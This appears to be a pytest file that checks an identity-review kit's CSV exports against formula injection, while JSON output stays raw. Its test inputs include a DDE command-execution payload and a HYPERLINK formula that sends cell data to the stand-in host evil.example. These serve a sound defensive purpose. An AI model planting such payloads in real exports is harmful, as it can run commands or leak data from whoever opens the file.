"""CSV formula injection (OWASP "CSV Injection"): every CSV the kit writes neutralises text a spreadsheet would
evaluate, through core/csvsafe.py; JSON stays as it was."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from idbridge.checks.artifact import write_evaluation
from idbridge.checks.base import Finding
from idbridge.checks.evaluate import Evaluation, Verdict
from idbridge.checks.runner import CheckOutcome, CheckResults
from idbridge.core.csvsafe import csv_text, neutralise

from support.review_tables import META, make_access, make_tables, pid

LIB = Path(__file__).resolve().parents[2] / "lib"
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1)", "-2+3",
           "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["alice@contoso.com", "data-prod", "a=b", "", "'=already quoted", "1-2"])
def test_other_text_is_unchanged(value):
    assert neutralise(value) == value


def test_numbers_the_kit_computed_are_not_prefixed_and_every_field_is_quoted():
    frame = pd.DataFrame({"name": ["=1+1", "ok"], "count": [-3, 4], "hours": [-1.5, 2.0], "flag": [True, False]})
    text = csv_text(frame)
    assert text.splitlines()[0] == '"name","count","hours","flag"'
    assert cells(text)[1:] == [["'=1+1", "-3", "-1.5", "True"], ["ok", "4", "2.0", "False"]]
    assert text.splitlines()[1] == '"\'=1+1","-3","-1.5","True"'


def test_access_csv_neutralises_tenant_names_and_tags_json_does_not(tmp_path):
    from idbridge.review.export import write_tables

    access = make_access()
    access.loc[0, "account_name"] = HOSTILE[0]
    access.loc[1, "account_tags"] = "owner=@SUM(1); env=prod"
    access.loc[2, "entra_group_name"] = HOSTILE[1]
    access.loc[3, "user_principal_name"] = "+1+1"
    access.loc[4, "permission_set_name"] = "-2+3"
    access.loc[5, "account_tags"] = "=1+1"
    write_tables(access, tmp_path, META)
    table = cells((tmp_path / "access.csv").read_text(encoding="utf-8"))
    header, rows = table[0], table[1:]
    col = {name: header.index(name) for name in header}
    assert rows[0][col["account_name"]] == "'" + HOSTILE[0]
    assert rows[1][col["account_tags"]] == "owner=@SUM(1); env=prod"  # starts with text: nothing to evaluate
    assert rows[2][col["entra_group_name"]] == "'" + HOSTILE[1]
    assert rows[3][col["user_principal_name"]] == "'+1+1"
    assert rows[4][col["permission_set_name"]] == "'-2+3"
    assert rows[5][col["account_tags"]] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    records = json.loads((tmp_path / "access.json").read_text())
    assert records[0]["account_name"] == HOSTILE[0] and records[4]["permission_set_name"] == "-2+3"


def _evaluation() -> Evaluation:
    finding = Finding("access.stale_user", "=HYPERLINK(\"x\")", "medium", "access", "user:+1+1@contoso.com",
                      "-2+3 days", {"group": "=cmd|' /C calc'!A0"}, "@SUM(1)", "=fix", ("=ref",))
    outcome = CheckOutcome("access.stale_user", "@SUM(1)", "access", "medium", "fail", 1, "-reason", "=passed")
    return Evaluation(CheckResults([outcome], [finding]), {}, "high", Verdict("fail", 1, "FAIL"))


def test_findings_and_checks_csv_are_neutralised(tmp_path):
    paths = write_evaluation(_evaluation(), tmp_path)
    for name in ("csv", "checks"):
        rows = cells(paths[name].read_text(encoding="utf-8"))
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), (name, rows)
    findings = pd.read_csv(paths["csv"], dtype=str)
    assert findings.loc[0, "title"] == "'=HYPERLINK(\"x\")" and findings.loc[0, "detail"] == "'-2+3 days"
    assert findings.loc[0, "subject"] == "user:+1+1@contoso.com"
    checks = pd.read_csv(paths["checks"])
    assert checks.loc[0, "findings"] == 1 and checks.loc[0, "reason"] == "'-reason"
    document = json.loads(paths["json"].read_text())
    assert document["findings"][0]["title"] == "=HYPERLINK(\"x\")"  # JSON is for machines: unchanged


def test_review_removals_csv_is_neutralised(tmp_path):
    from idbridge.report.decisions import removal_plan

    access = make_access()
    key = pid(access, "bob", "222222222222")
    access.loc[access["entra_group_name"].eq("AWS-Devs"), "entra_group_name"] = "@Devs"
    decisions = pd.DataFrame([{"path_id": key, "decision": "Remove", "comment": "=1+1", "workbook": "-w.xlsx",
                               "cell": "Access!O2", "scope": "account_owner", "scope_key": "x", "reviewer": "x"}])
    removal_plan(decisions, access, make_tables(), tmp_path)
    plan = pd.read_csv(tmp_path / "review-removals.csv", dtype=str)
    assert plan.loc[0, "key"] == "'@Devs / member bob@contoso.com"
    rows = cells((tmp_path / "review-removals.csv").read_text(encoding="utf-8"))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
    assert json.loads((tmp_path / "review-removals.json").read_text())[0]["key"] == "@Devs / member bob@contoso.com"


def test_every_csv_of_the_library_is_written_through_csvsafe():
    """One place: no module but core/csvsafe.py writes CSV itself."""
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [str(p.relative_to(LIB)) for p in LIB.rglob("*.py")
                 if p.name != "csvsafe.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
